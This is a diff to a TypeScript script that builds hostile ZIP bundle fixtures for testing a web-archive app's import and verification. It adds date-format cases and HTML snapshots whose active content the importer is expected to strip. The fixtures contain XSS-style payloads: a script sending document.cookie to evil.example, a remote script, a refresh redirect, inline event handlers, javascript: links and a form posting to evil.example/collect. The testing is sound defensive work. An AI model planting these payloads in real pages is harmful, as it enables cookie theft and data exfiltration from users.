@@ -12,7 +12,7 @@ import { join } from 'node:path';
 import { deflateSync, zipSync, strToU8 } from 'fflate';
 import { crc32 } from '../utils/bundle/zip-read';
 import { parseBundle, sha256Hex } from '../utils/bundle/read';
-import { seedLibrary, exportBytes } from '../tests/unit/bundle-helpers';
+import { seedLibrary, exportBytes, HOSTILE_ARTICLE_HTML } from '../tests/unit/bundle-helpers';
 import { unzipStrict } from '../utils/bundle/zip-read';
 
 const OUT = join(import.meta.dirname ?? __dirname, '..', 'tests', 'fixtures', 'hostile');
@@ -117,6 +117,15 @@ function descriptorOf(data: Uint8Array, packedLen: number, crc = crc32(data)): U
 
 /** A page that runs a script, shown by unzip in place of the bundle's index.html. */
 const EVIL_INDEX = new TextEncoder().encode('<!doctype html><title>Bundle</title><script>fetch("https://evil.example/?"+document.cookie)</script><h1>Index</h1>');
+
+/** A page snapshot as a doctored bundle would carry it (the save feature's serializer writes none of this). */
+const HOSTILE_SNAPSHOT = `<!doctype html><html><head><meta charset="utf-8"><meta http-equiv="refresh" content="1;url=https://evil.example/">
+<style>body { color: #123456 }</style><script src="https://evil.example/x.js"></script></head>
+<body onload="alert(1)"><h1>Сұхбат</h1><p>Роза Ақылбекова: «Біздің мақсатымыз – кінәлау емес», деді.</p>
+<a href="javascript:alert(2)" onclick="alert(3)">more</a>
+<form action="https://evil.example/collect" method="post"><input name="q" value="kept"><button formaction="https://evil.example/2">Go</button></form>
+<iframe srcdoc="&lt;p&gt;frame&lt;/p&gt;&lt;script&gt;alert(4)&lt;/script&gt;"></iframe>
+<object data="https://evil.example/x.swf"></object></body></html>`;
 
 /** Info-ZIP Unicode Path extra field (0x7075): unzip names the entry by it. */
 function unicodePathExtra(name: string): Uint8Array {
@@ -223,7 +232,10 @@ async function main() {
     ['annotation-unknown-page.zip', withLd((c) => { c.first.items[0]!['saqta:pageId'] = 'urn:uuid:00000000-0000-4000-8000-00000000dead'; }), 'annotation-unknown-page', 'belongs to no article'],
     ['annotation-huge-note.zip', withLd((c) => { c.first.items[0]!.body = [{ type: 'TextualBody', purpose: 'commenting', value: 'x'.repeat(30_000) }]; }), 'too-long', 'a note of 30000 characters'],
     ['page-ftp-url.zip', rezip({ ...files, [`${dir}/page.json`]: strToU8(JSON.stringify({ ...JSON.parse(text(`${dir}/page.json`)), url: 'ftp://example.com/x' })) }, true), 'page-invalid', '"url" is not an http(s) address'],
-    ['page-no-times.zip', rezip({ ...files, [`${dir}/page.json`]: strToU8(JSON.stringify({ ...JSON.parse(text(`${dir}/page.json`)), createdAt: 5 })) }, true), 'page-invalid', '"createdAt" is not a date and time'],
+    ['page-no-times.zip', rezip({ ...files, [`${dir}/page.json`]: strToU8(JSON.stringify({ ...JSON.parse(text(`${dir}/page.json`)), createdAt: 5 })) }, true), 'page-invalid', '"createdAt" is not an ISO 8601 date and time (found 5)'],
+    ['page-date-not-iso.zip', rezip({ ...files, [`${dir}/page.json`]: strToU8(JSON.stringify({ ...JSON.parse(text(`${dir}/page.json`)), createdAt: '03/04/2019 10:00' })) }, true), 'page-invalid', '"createdAt" is not an ISO 8601 date and time (found "03/04/2019 10:00")'],
+    ['capture-date-one.zip', rezip({ ...files, [`${dir}/capture-1/capture.json`]: strToU8(JSON.stringify({ ...JSON.parse(text(`${dir}/capture-1/capture.json`)), capturedAt: '1' })) }, true), 'capture-invalid', '"capturedAt" is not an ISO 8601 date and time (found "1")'],
+    ['page-date-feb-30.zip', rezip({ ...files, [`${dir}/page.json`]: strToU8(JSON.stringify({ ...JSON.parse(text(`${dir}/page.json`)), updatedAt: '2019-02-30T10:00:00Z' })) }, true), 'page-invalid', '"updatedAt" is not an ISO 8601 date and time (found "2019-02-30T10:00:00Z")'],
     ['capture-hash-mismatch.zip', rezip({ ...files, [`${dir}/capture-1/screenshot.png`]: flip(files[`${dir}/capture-1/screenshot.png`]!, 3) }, true), 'wrong-hash', 'recorded at capture time'],
     ['capture-missing-artifact.zip', rezip(Object.fromEntries(Object.entries(files).filter(([p]) => !p.endsWith('screenshot.png'))), true), 'missing-file', 'names "screenshot.png", which is not in the bundle'],
     // The archive is not what every unzip tool would unpack (issue 12).
@@ -270,12 +282,32 @@ async function main() {
     return rawZip([{ name: aName, data: aData, method: 0 }], {}, [central]);
   }
 
+  // Saved HTML with active content: imported with the dangerous parts gone; verify fails naming the file.
+  const capDir = `${dir}/capture-1`;
+  const capture = JSON.parse(text(`${capDir}/capture.json`));
+  const withArtifact = (name: string, kind: string, html: Uint8Array, replace: boolean) => {
+    const c = structuredClone(capture);
+    const a = { kind, blobId: `blob-${kind}-doctored`, sha256: sha256Hex(html), size: html.length, mime: 'text/html', file: name };
+    if (replace) c.artifacts = c.artifacts.map((x: { kind: string }) => (x.kind === kind ? { ...x, sha256: a.sha256, size: a.size } : x));
+    else c.artifacts.push(a);
+    return rezip({ ...files, [`${capDir}/${name}`]: html, [`${capDir}/capture.json`]: strToU8(JSON.stringify(c, null, 2)) }, true);
+  };
+  const imported: [string, Uint8Array, string, { kind: string | null; absent: string[]; present: string[] }][] = [
+    ['html-article-active.zip', withArtifact('article.html', 'article', enc(HOSTILE_ARTICLE_HTML), true), 'capture-1/article.html holds active content', { kind: 'article', absent: ['<script', 'onerror', 'javascript:', '<form', 'refresh', 'evil.example', '<button', '<input'], present: ['Біздің мақсатымыз – кінәлау емес', 'https://cdn.example/x.png'] }],
+    ['html-snapshot-active.zip', withArtifact('snapshot.html', 'snapshot', enc(HOSTILE_SNAPSHOT), false), 'capture-1/snapshot.html holds active content', { kind: 'snapshot', absent: ['<script', 'onload', 'onclick', 'javascript:', 'refresh', 'evil.example', 'alert('], present: ["form-action 'none'", 'color: #123456', 'Біздің мақсатымыз', 'value="kept"'] }],
+    ['html-index-script.zip', rezip({ ...files, 'index.html': EVIL_INDEX }, true), 'index.html holds active content', { kind: null, absent: [], present: [] }],
+  ];
+
   rmSync(OUT, { recursive: true, force: true });
   mkdirSync(OUT, { recursive: true });
-  const expected: Record<string, { code: string; phrase: string }> = {};
+  const expected: Record<string, { code: string; phrase: string; imported?: { kind: string | null; absent: string[]; present: string[] } }> = {};
   for (const [file, bytes, code, phrase] of cases) {
     writeFileSync(join(OUT, file), bytes);
     expected[file] = { code, phrase };
+  }
+  for (const [file, bytes, phrase, what] of imported) {
+    writeFileSync(join(OUT, file), bytes);
+    expected[file] = { code: 'html-cleaned', phrase, imported: what };
   }
   writeFileSync(join(OUT, 'good.zip'), good);
   writeFileSync(join(OUT, 'expected.json'), JSON.stringify(expected, null, 2) + '\n');
